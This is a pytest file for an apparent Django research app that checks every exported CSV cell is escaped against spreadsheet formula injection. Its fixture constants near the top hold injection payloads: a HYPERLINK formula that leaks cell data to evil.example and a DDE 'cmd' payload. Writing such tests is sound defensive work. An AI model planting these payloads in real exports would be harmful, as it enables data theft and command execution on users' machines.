"""No exported CSV cell can run as a spreadsheet formula (OWASP CSV injection).

Participant ids come from the panel link unauthenticated, and category and scorer names from
researchers; all of them reach CSV cells. Every CSV file of a real export is checked.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User

from analysis import exports
from analysis.reports import build_report
from config.csvsafe import FORMULA_LEADS, csv_bytes, safe_cell
from scoring.models import Scorer
from sketches.models import Category
from tests.analysis.factories import answer_all, contrarian, follower
from tests.annotation.factories import make_running_study
from tests.factories import grant_researcher_permissions

pytestmark = pytest.mark.django_db

EVIL_IDS = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0"]
EVIL_CATEGORIES = ['=HYPERLINK("https://evil.example","pig")', "+face-1"]
EVIL_SCORER = "-2-cmd"


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def export_files():
    owner = User.objects.create_user("owner", "owner@example.org", "owner-password-1", is_staff=True)
    grant_researcher_permissions(owner)
    study = make_running_study("csv-injection", owner=owner)
    answer_all(study, EVIL_IDS[0], follower)
    answer_all(study, EVIL_IDS[1], contrarian)
    for category, name in zip(Category.objects.order_by("name"), EVIL_CATEGORIES):
        category.name = name
        category.save(update_fields=["name"])
    scorer = Scorer.objects.filter(pk__in=study.scorers.values("pk")).first()
    scorer.name = EVIL_SCORER
    scorer.save(update_fields=["name"])
    report = build_report(study, agreement_boot=20, bt_boot=5, correlation_boot=10)
    files = {name: data for name, data in exports.report_files(report) if name.endswith(".csv")}
    files_expected = {"answers.csv"} | {f"{name}.csv" for name in report.tables()}
    assert set(files) == files_expected  # answers.csv and every table of the report
    return files


def test_no_cell_of_any_exported_csv_starts_a_formula(export_files):
    assert len(export_files) >= 13  # answers.csv and every table (checked in the fixture)
    escaped = set()
    for name, data in export_files.items():
        for row in csv.reader(io.StringIO(data.decode())):
            for cell in row:
                if cell.startswith("'"):
                    escaped.add((name, cell[1:]))
                assert not cell.startswith(FORMULA_LEADS) or is_number(cell), (name, cell)
    seen = {value for _, value in escaped}
    assert set(EVIL_IDS) <= seen and set(EVIL_CATEGORIES) <= seen and EVIL_SCORER in seen
    files_with_ids = {name for name, value in escaped if value in EVIL_IDS}
    assert {"answers.csv", "worker_qa.csv"} <= files_with_ids


def test_numbers_stay_numbers_and_text_round_trips():
    rows = [{"bt_score": -0.25, "n": -3, "flag": True, "id": "-0.25", "name": "pig", "none": None}]
    [header, row] = list(csv.reader(io.StringIO(csv_bytes(rows).decode())))
    assert header == ["bt_score", "n", "flag", "id", "name", "none"]
    assert row == ["-0.25", "-3", "true", "'-0.25", "pig", ""]
    for lead in FORMULA_LEADS:
        assert safe_cell(f"{lead}1+1") == f"'{lead}1+1"
    assert safe_cell("'=already") == "'=already"  # a leading quote is not a formula


def test_every_csv_in_the_code_is_written_by_the_one_writer():
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        if path.parts[len(root.parts)] in {".venv", "tests", "var"} or path.name == "csvsafe.py":
            continue
        text = path.read_text()
        if "csv.writer(" in text or "csv.DictWriter(" in text or ".to_csv(" in text:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
